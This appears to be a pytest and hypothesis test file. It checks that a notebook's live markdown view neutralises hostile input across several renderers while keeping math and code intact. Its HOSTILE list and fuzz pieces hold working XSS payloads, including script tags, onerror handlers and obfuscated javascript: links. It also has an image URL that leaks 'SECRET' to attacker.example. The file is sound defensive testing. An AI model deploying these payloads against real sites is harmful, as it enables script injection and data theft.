"""The live view's markdown is inert for a front end that trusts it: no renderer makes HTML, an
image or an unsafe link of it (markdown-it and mistune with raw HTML on, with and without code
spans, and after Lab's math extraction), while math and code stay as they were."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import mistune
import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from scaling import assert_linear
from test_math_text import FORMS as MATH_FORMS
from test_math_text import PROSE as MATH_PROSE
from test_math_text import TEX as MATH_TEX
from test_math_text import math_in

from reasoning_nb.views.live_markdown import live_markdown, markdown_output, math_spans
from reasoning_nb.views.markdown_safety import SAFE_LINK
from reasoning_nb.views.render import markdown_html

ALLOWED = {
    "p", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "blockquote", "hr", "br",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "s", "del",
}  # fmt: skip
ALLOWED_ATTRS = {("a", "href"), ("a", "title"), ("code", "class"), ("ol", "start")}
ALLOWED_ATTRS |= {("th", "style"), ("td", "style"), ("th", "align"), ("td", "align")}


class _Checker(HTMLParser):
    """Collects every tag or attribute a browser would act on that is not plain formatting."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[object] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED:
            self.bad.append(tag)
        for name, value in attrs:
            if (tag, name) not in ALLOWED_ATTRS:
                self.bad.append((tag, name, value))
            elif name == "href":
                url = re.sub(r"[\x00-\x20\x7f]+", "", value or "")
                if not SAFE_LINK.match(url):
                    self.bad.append(("href", value))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.bad.append(("comment", data))

    def handle_pi(self, data):
        self.bad.append(("pi", data))

    def handle_decl(self, decl):
        self.bad.append(("decl", decl))

    def unknown_decl(self, data):
        self.bad.append(("decl", data))


def _bad(rendered: str) -> list[object]:
    checker = _Checker()
    checker.feed(rendered)
    checker.close()
    return checker.bad


def _lab_like(md: str, render) -> str:
    """Lab's pipeline: math out (escaped), markdown, math back in."""
    spans = math_spans(md)
    out, pos, saved = [], 0, []
    for start, end in spans:
        out.append(md[pos:start] + f"\u27e6{len(saved)}\u27e7")  # (Lab: @@n@@)
        saved.append(html.escape(md[start:end]))
        pos = end
    rendered = render("".join(out) + md[pos:])
    return re.sub("\u27e6(\\d+)\u27e7", lambda m: saved[int(m.group(1))], rendered)


# Raw HTML on and every link kept, as marked (Lab's markdown) keeps them.
_COMMONMARK = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_COMMONMARK.validateLink = lambda url: True
_NO_CODE_SPANS = MarkdownIt("commonmark", {"html": True}).enable(["table"]).disable("backticks")
_NO_CODE_SPANS.validateLink = lambda url: True
_MISTUNE = mistune.create_markdown(
    renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True),
    plugins=["table", "strikethrough", "url"],
)
RENDERERS = {
    "markdown-it": _COMMONMARK.render,
    "markdown-it, no code spans": _NO_CODE_SPANS.render,
    "mistune": _MISTUNE,
}


_NO_CODE = MarkdownIt("commonmark", {"html": True}).disable(["backticks", "fence", "code"])
_NO_CODE.validateLink = lambda url: True


def _top_level_code(md: str) -> bool:
    return any(t.type in ("fence", "code_block") and not t.level for t in _COMMONMARK.parse(md))


def live_anywhere(md: str) -> list[object]:
    """Whatever any renderer makes of ``md`` that is not plain formatting; also one that reads
    no code at all, unless ``md`` has a top-level code block (every renderer agrees on those)."""
    renderers = dict(RENDERERS)
    if not _top_level_code(md):
        renderers["no code at all"] = _NO_CODE.render
    found = []
    for name, render in renderers.items():
        found += [(name, b) for b in _bad(render(md))]
        found += [(f"{name} + Lab math", b) for b in _bad(_lab_like(md, render))]
    return found


HOSTILE = [
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=2">',
    "[click](javascript:window.__pwned=3)",
    "![pixel](https://attacker.example/p.png?q=SECRET)",
    "[x](vbscript:msgbox) [y](data:text/html,<b>) [z](java&#115;cript:alert(1))",
    "[t](java\tscript:alert(1)) [u](<javascript:alert(1)>) [v]( javascript:alert(1))",
    "[w](java\\script:alert(1)) [ref]\n\n[ref]: javascript:alert(1)",
    "[ref2]\n\n[ref2]:\n  javascript:alert(1)",
    "<javascript:alert(7)> <https://ok.example> <!-- c --> <?php ?> <![CDATA[x]]>",
    "<svg onload=alert(6)> <iframe src=javascript:alert(9)></iframe> <style>*{}</style>",
    "`x` <img src=x onerror=alert(1)> `y`",
    "[a `b](javascript:alert(1))` c",
    '[a](https://ok "`") <img src=x onerror=alert(1)>`',  # marked: the link wins over the span
    "1. item\n   ```\n   <img src=x onerror=alert(1)>\n   ```",
    "1. item\n   ```\n   x\n<img src=x onerror=alert(1)>",  # the list ends: so does the fence
    "> ```\n> <img src=x onerror=alert(1)>\n> ```",
    "$<img src=x onerror=alert(1)>$ and $$</p><script>alert(1)</script>$$",
    "\\(<img src=x onerror=alert(1)>\\)",
    "\\begin{x}<img src=x onerror=alert(1)>\\end{x}",
    "$a$](javascript:alert(1)) [b]($x$javascript:alert(1))",
    "![a [b] c](javascript:alert(1)) ![d](https://e.example/f.png)",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| `<b>` | c |",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("breaks", [False, True])
def test_hostile_text_is_inert(text, breaks):
    assert live_anywhere(text)  # (the finders see the payload)
    md = live_markdown(text, breaks=breaks)
    assert not live_anywhere(md), md


def test_links_and_images_read_as_the_static_view_shows_them():
    md = live_markdown(
        "See ![the chart](https://attacker.example/c.png?q=SECRET), [the docs](https://example.org)"
        ", [mail](mailto:a@b.c), [here](#part-2) and [open it](vscode://file/etc/passwd)."
    )
    rendered = _COMMONMARK.render(md)
    assert '<a href="https://attacker.example/c.png?q=SECRET">image: the chart</a>' in rendered
    assert '<a href="https://example.org">the docs</a>' in rendered
    assert '<a href="mailto:a@b.c">mail</a>' in rendered and '<a href="#part-2">' in rendered
    assert "[open it](vscode://file/etc/passwd)" in html.unescape(rendered)
    assert "<img" not in rendered


def test_raw_html_shows_as_the_text_it_was():
    text = "Use <br> or <b>bold</b>, a <= b, AT&T, &amp; and <https://x.example>."
    rendered = _COMMONMARK.render(live_markdown(text))
    shown = html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()
    assert shown == text.replace("&amp;", "&")  # (an entity the model wrote reads as itself)


MATH = [
    "$a_1 + b_1 = c$",
    "$$\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}$$",
    "$\\{x \\mid x > 0\\}$",
    "$$\n\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}\n$$",
    "\\begin{align} x &= 1 \\end{align}",
    "$[0, 1]$",
]


@pytest.mark.parametrize("tex", MATH)
def test_math_is_left_as_tex(tex):
    text = f"Before *it* {tex} and after."
    md = live_markdown(text, breaks=True)
    assert tex in md
    [(start, end)] = math_spans(md)
    assert md[start:end] == tex


def test_backslash_delimiters_become_dollars():
    md = live_markdown("Inline \\( a^2 \\) and \\[\n\\int_0^1 x\\,dx\n\\] and \\\\(kept\\\\).")
    assert md == "Inline $a^2$ and $$\n\\int_0^1 x\\,dx\n$$ and \\\\(kept\\\\)."
    assert [md[a:b] for a, b in math_spans(md)] == [
        "$a^2$",
        "$$\n\\int_0^1 x\\,dx\n$$",
        "\\\\(kept\\\\)",  # Lab's own form: math there too
    ]
    assert (
        live_markdown("`\\(x\\)` and\n\n```\n\\[y\\]\n```\n")
        == "`\\(x\\)` and\n\n```\n\\[y\\]\n```\n"
    )
    assert live_markdown("\\(a\n\nb\\)") == "\\(a\n\nb\\)"  # not across a paragraph


def test_math_that_could_be_read_as_html_gets_a_space():
    """Lab escapes math itself; a renderer that finds no math there must find no tag either."""
    assert live_markdown("$a<b$ and $x < 1$") == "$a< b$ and $x < 1$"
    assert live_markdown("$\\{a\\}<\\text{b}$") == "$\\{a\\}<\\text{b}$"  # not a letter


def test_code_is_left_as_it_is():
    fence = "```python\nif a<b and c[0](x):\n    print('<b>' + f'$x$')\n```\n"
    text = f"Some `code` and ``a`b``.\n\n{fence}\n    indented <b> code\n"
    md = live_markdown(text)
    assert md == text
    assert (
        live_markdown("- item\n\n  ```\n  x = 1 < 2\n  ```\n")
        == "- item\n\n  ```\n  x = 1 < 2\n  ```\n"
    )


def test_risky_code_in_a_list_or_a_span_goes_as_entities():
    md = live_markdown("1. Run:\n   ```html\n   <b>$x$</b>\n\n   [a](b)\n   ```\n2. Then `<br>`.")
    rendered = _COMMONMARK.render(md)
    assert '<pre><code class="language-html">&#60;b&#62;&#36;x&#36;&#60;&#47;b&#62;&#10;&#10;' in md
    assert html.unescape(re.sub(r"<[^>]+>", "", rendered)).count("<b>$x$</b>") == 1
    assert "2. Then <code>&#60;br&#62;</code>." in md
    assert "<li>Then <code>&lt;br&gt;</code>.</li>" in rendered
    assert not math_spans(md)


def test_reasoning_keeps_its_line_ends():
    md = live_markdown("one\ntwo\n\n- a\n- b\n\n```\nx\ny\n```\n", breaks=True)
    assert md == "one  \ntwo\n\n- a  \n- b\n\n```\nx\ny\n```\n"
    assert _COMMONMARK.render(md).startswith("<p>one<br />\ntwo</p>")


def test_markdown_output():
    assert markdown_output("") == ()
    [out] = markdown_output("**x**")
    assert out == {
        "output_type": "display_data",
        "data": {"text/markdown": "**x**"},
        "metadata": {},
    }


# -- for any text ----------------------------------------------------------------------------------

PIECES = [
    "<", ">", "img", "script", " src=x onerror=alert(1)", "/", "!", "?", "[", "]", "(", ")", "](",
    "![", "]:", "javascript:alert(1)", "java\tscript:", "&#58;", "&#x3C;", "&", ";", "\\", "`",
    "``", "```", "~~~", "\n", "\n\n", " ", "   ", "    ", "\t", "$", "$$", "\\(", "\\)", "\\[",
    "\\]", "\\begin{x}", "\\end{x}", "{", "}", "- ", "1. ", "> ", "|", "---", "https://a.example",
    "mailto:a@b", "#x", "*", "_", "@@0@@", "<!--", "-->", "<?", "<![CDATA[", '"', "'", "x", "word",
    "=", ":", "data:text/html,", "vbscript:", "<img src=x onerror=alert(1)>", "[a](", "![a](",
    "[a]: ", "javascript:alert(1))", "https://a.example/p.png)", "<b>", "</p>", "\n   ```\n",
]  # fmt: skip
TEXTS = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(TEXTS, st.booleans())
def test_any_text_is_inert(text, breaks):
    md = live_markdown(text, breaks=breaks)
    assert not live_anywhere(md), (text, md)


TEX = st.lists(
    st.sampled_from(
        ["a", "b_1", "^2", "\\frac{1}{2}", "+", "=", "<", " ", "\\{", "\\}", "&", "[", "]"]
    ),
    min_size=1,
    max_size=8,
).map("".join)
PROSE = st.lists(st.sampled_from(["Then", " ", "**so**", "x", ",", "we", "*get*"]), max_size=6).map(
    "".join
)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(PROSE, TEX, st.sampled_from(["$", "$$", "\\(", "\\["])), min_size=1))
def test_math_spans_survive(parts):
    """Each formula comes out as one math span with the same TeX (``\\(`` as ``$``), a space
    after a ``<`` before a letter aside."""
    text, expected = "", []
    for prose, tex, delimiter in parts:
        tex = tex.strip() or "x"
        closer = {"$": "$", "$$": "$$", "\\(": "\\)", "\\[": "\\]"}[delimiter]
        text += f"{prose} {delimiter}{tex}{closer} "
        dollars = {"\\(": "$", "\\[": "$$"}.get(delimiter, delimiter)
        expected.append(f"{dollars}{re.sub(r'<(?=[A-Za-z])', '< ', tex)}{dollars}")
    md = live_markdown(text.lstrip(" "))  # (an indent of 4 at the start would make it code)
    assert [md[a:b] for a, b in math_spans(md)] == expected


CODE = st.lists(
    st.sampled_from(["x", " ", "<", "b>", "$", "[a](b)", "&", "*", "_", "\\", "\n"])
).map("".join)


@settings(max_examples=200, deadline=None)
@given(PROSE, CODE)
def test_top_level_fences_survive(prose, code):
    fence = f"```python\n{code}\n```\n"
    assert live_markdown(f"{prose}\n\n{fence}\n{prose}").count(fence) == 1


# -- the live and static views agree on what is math ----------------------------------------------


def _live_tex(text: str) -> list[str]:
    """The TeX of each span Lab finds in the live view's markdown, its delimiters taken off."""
    md = live_markdown(text)
    spans = [md[a:b] for a, b in math_spans(md)]
    return [s[2:-2] if s.startswith("$$") else s[1:-1] for s in spans]


_OPENS_BLOCK = re.compile(
    r" {0,3}(?:>|~{3,}|[-+*](?:[ \t]|$)|#{1,6}(?:[ \t]|$)|\d{1,9}[.)](?:[ \t]|$))"
)


@settings(max_examples=400, deadline=None)
@given(
    MATH_PROSE,
    MATH_TEX.filter(lambda t: "`" not in t),
    st.sampled_from(sorted(MATH_FORMS)),
    MATH_PROSE,
)
def test_the_live_and_static_views_find_the_same_math(before, tex, kind, after):
    """Prose with a formula in any of the four delimiters, inline or as a block: Lab finds in
    the live markdown the one span the static view typesets, with the same TeX. (They differ by
    design where Lab's rules and Pandoc's part: ``$5 and $10`` and ``$ x $`` are math to Lab
    and prose to the static view; a backtick pair in TeX is code to Lab, as to CommonMark.)"""
    opening, closing, block = MATH_FORMS[kind]
    assume(closing not in tex and (block or "\n" not in tex))
    # (the static view writes math as \(…\) or \[…\], whatever its delimiters were: TeX
    # holding one of those closers ends early in MathJax, a limit of that form)
    assume("\\)" not in tex and "\\]" not in tex)
    # (by design too: a TeX line of a display that opens a block of its own, a quote, an item,
    # a heading or a ~~~ fence, ends the paragraph for CommonMark, so the static view sees no
    # display; Lab masks math before it reads markdown)
    assume(not (block and any(_OPENS_BLOCK.match(line) for line in tex.split("\n"))))
    if block:
        text = f"{before}\n{opening}\n{tex}\n{closing}\n{after}"
    else:
        text = f"{before} {opening}{tex}{closing} {after}"
    spaceless = lambda tex: "".join(tex.split())  # noqa: E731  (spaces: TeX ignores them)
    static = [spaceless(t) for t in math_in(markdown_html(text))]
    assert [spaceless(t) for t in _live_tex(text)] == static, (text, live_markdown(text))


# -- unclosed math costs linear time (issue 22, item 21) ------------------------------------------

UNCLOSED = {
    "\\(": "so \\( x ",
    "\\[": "so \\[ x ",
    "\\( in paragraphs": "so \\( x\n\n",
    "$": "so $ x\n",
    "\\( and a far \\)": "\\( x\n\n",  # (the closer at the very end: every opener saw it)
}


@pytest.mark.parametrize("name", list(UNCLOSED))
def test_unclosed_math_renders_in_linear_time(name):
    """A run of openers that never close renders in time linear in the text: each ``\\(`` used
    to look for its closer through the rest of the text (50 KB took 4.3 s per render of the
    live view), and for a blank line through all it found."""
    unit = UNCLOSED[name]
    tail = "\\)" if name.endswith("\\)") else ""
    assert_linear(lambda n: live_markdown(unit * n + tail, breaks=True), 300)


def test_backslash_pairs_stay_within_a_paragraph():
    """The pairing the linear search keeps: an opener takes the next closer of its kind, not
    across a blank line, and an escaped one opens nothing."""
    md = live_markdown("a \\(x\n\ny\\) b \\(p\\) \\[r\\] \\\\\\(t\\\\\\)")
    assert [md[a:b] for a, b in math_spans(md)] == ["$p$", "$$r$$", "$t\\\\ $"]
